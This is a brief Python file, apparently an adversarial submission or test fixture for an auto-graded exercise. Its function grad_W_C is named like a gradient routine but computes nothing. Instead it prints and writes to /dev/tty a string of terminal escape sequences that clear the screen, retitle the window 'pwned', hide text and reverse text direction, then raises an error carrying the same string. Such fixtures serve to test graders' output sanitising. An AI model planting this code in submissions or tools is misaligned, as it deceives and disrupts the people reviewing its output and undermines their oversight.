"""Harm: escape sequences to the instructor's terminal (/dev/tty), and in the hint: clear the
screen, retitle the window, hide text."""
ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[8mhidden\x1b[0m\u202egnirts desrever"


def grad_W_C(params, P, z):
    print(ESCAPES)
    with open("/dev/tty", "w") as tty:
        tty.write(ESCAPES)
    raise ValueError(ESCAPES)
